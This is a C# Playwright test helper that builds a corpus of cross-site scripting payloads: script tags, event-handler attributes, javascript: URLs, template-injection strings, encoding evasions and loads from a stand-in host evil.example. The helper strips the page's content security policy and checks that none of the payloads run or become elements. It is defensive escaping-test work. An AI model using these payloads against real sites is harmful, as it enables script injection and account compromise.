using System.Text.RegularExpressions;
using Microsoft.Playwright;

namespace Bridge.Console.Tests.Hosting;

/// <summary>More than a thousand writings of somebody who means harm, and the look whether a page took them for text.</summary>
internal static partial class HarmfulText
{
    // Ways out of text, of an attribute in either quotes, of a comment, of a title, of a script; and what they run.
    private static readonly string[] Openings = ["", "\"", "'", "\">", "'>", "-->", "</title>", "</script>", "</textarea>", "</bdi></strong>", "\u0000\">", "＂＞", "&quot;&gt;", "\\\"", "]]>", "</style>", "*/", "</svg>"];

    public static readonly string[] Acts =
    [
        "<script>pwn()</script>", "<ScRiPt>pwn()</sCrIpT>", "<script/x>pwn()</script>", "<img src=x onerror=pwn()>", "<img/src=x/onerror=pwn()>", "<svg onload=pwn()>", "<svg><script>pwn()</script></svg>",
        "<svg><animate onbegin=pwn() attributeName=x dur=1s>", "<body onload=pwn()>", "<iframe srcdoc='<script>parent.pwn()</script>'>", "<iframe src=javascript:parent.pwn()>", "<details open ontoggle=pwn()>",
        "<input autofocus onfocus=pwn()>", "<video><source onerror=pwn()></video>", "<audio src=x onerror=pwn()>", "<object data=javascript:pwn()>", "<embed src=javascript:pwn()>", "<form><button formaction=javascript:pwn() autofocus>",
        "<a href=javascript:pwn() autofocus onfocus=pwn()>x</a>", "<a href='data:text/html,<script>pwn()</script>'>x</a>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:pwn()'>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example)}</style>", "<math><mtext><script>pwn()</script></mtext></math>", "<table background=javascript:pwn()>", "<marquee onstart=pwn()>",
        "<template><script>pwn()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">", "<x onclick=pwn() style=position:fixed;inset:0>x</x>", "<img srcset=x onerror=pwn()>", "<select autofocus onfocus=pwn()>",
        "<textarea autofocus onfocus=pwn()>", "<keygen autofocus onfocus=pwn()>", "<isindex action=javascript:pwn()>", "<script src=//evil.example/x.js></script>", "<script src=data:text/javascript,pwn()></script>", "<img src=x onerror=&#112;wn()>",
        "<img src=x onerror=\u0070wn()>", "<svg/onload=pwn()//", "<<script>pwn()//<</script>", "<scr<script>ipt>pwn()</script>", "<%00script>pwn()</script>", "%3Cscript%3Epwn()%3C/script%3E", "&lt;script&gt;pwn()&lt;/script&gt;", "&#60;script&#62;pwn()&#60;/script&#62;",
        "\\u003cscript\\u003epwn()\\u003c/script\\u003e", "＜script＞pwn()＜/script＞", "{{constructor.constructor('pwn()')()}}", "${pwn()}", "#{pwn()}", "<%= pwn() %>", "javascript:pwn()", "\" onmouseover=pwn() autofocus onfocus=pwn() x=\"",
        "' onmouseover=pwn() autofocus onfocus=pwn() x='", "` onerror=pwn() `", "__proto__[innerHTML]=<img/src/onerror=pwn()>", "\u202e<img src=x onerror=pwn()>", "\u2028<img src=x onerror=pwn()>", "\ufeff<img src=x onerror=pwn()>",
        "<!--[if gte IE 4]><script>pwn()</script><![endif]-->", "<!--><img src=x onerror=pwn()>-->", "<![CDATA[<img src=x onerror=pwn()>]]>", "<?xml version='1.0'?><script>pwn()</script>", "@(pwn())", "@{pwn();}",
    ];

    public static IReadOnlyList<string> Corpus { get; } = [.. from opening in Openings from act in Acts select opening + act];

    /// <summary>The corpus is on the page, and none of it ran or became an element.</summary>
    /// <param name="least">How often it is to be found there.</param>
    /// <param name="lives">What is on a live page only when its picture has come.</param>
    public static async Task HarmlessAsync(Uri address, string path, int least, string? lives = null)
    {
        await using var browser = await Browser.StartAsync();
        var page = await OpenAsync(browser, address, path);
        if (lives is not null)
        {
            await page.Locator(lives).First.WaitForAsync(new LocatorWaitForOptions { Timeout = 60_000, State = WaitForSelectorState.Attached });
        }

        var shown = await HarmlessAsync(page);
        Assert.True(shown >= least, $"{path} shows {shown} of {least}: the corpus is not there");
    }

    /// <summary>None of it ran or became an element.</summary>
    /// <returns>How much of it is there to be read.</returns>
    public static async Task<int> HarmlessAsync(IPage page)
    {
        var shown = await page.EvaluateAsync<string>("document.body.textContent");
        Assert.Equal(0, await page.EvaluateAsync<int>("window.pwned"));
        Assert.Equal(0, await page.Locator("body script:not([src]), body img, iframe, object, embed, body style, video, audio, marquee, math, template, [onerror], [onload], [onfocus], [onclick], [srcdoc]").CountAsync());
        Assert.Equal(1, await page.Locator("base").CountAsync());
        return Pwn().Count(shown);
    }

    // The content policy is taken away: the pages have to hold without it.
    public static async Task<IPage> OpenAsync(Browser browser, Uri address, string path, IReadOnlyList<System.Net.Cookie>? cookies = null)
    {
        var page = await browser.OpenAsync(address, new Screen(1366, 768, false, "en"), "/_content/Bridge.Console/icon.svg", cookies: cookies);
        await page.AddInitScriptAsync("window.pwned = 0; window.pwn = () => { window.pwned++; };");
        await page.RouteAsync("**/*", async route =>
        {
            if (route.Request.ResourceType != "document")
            {
                await route.ContinueAsync();
                return;
            }

            var answer = await route.FetchAsync();
            var headers = answer.Headers.Where(header => header.Key != "content-security-policy").ToDictionary();
            await route.FulfillAsync(new RouteFulfillOptions { Response = answer, Headers = headers });
        });
        await page.GotoAsync(new Uri(address, path).ToString(), new PageGotoOptions { WaitUntil = WaitUntilState.Load, Timeout = 60_000 });
        return page;
    }

    [GeneratedRegex(@"pwn\(\)|&#112;wn\(\)|evil\.example")]
    public static partial Regex Pwn();
}
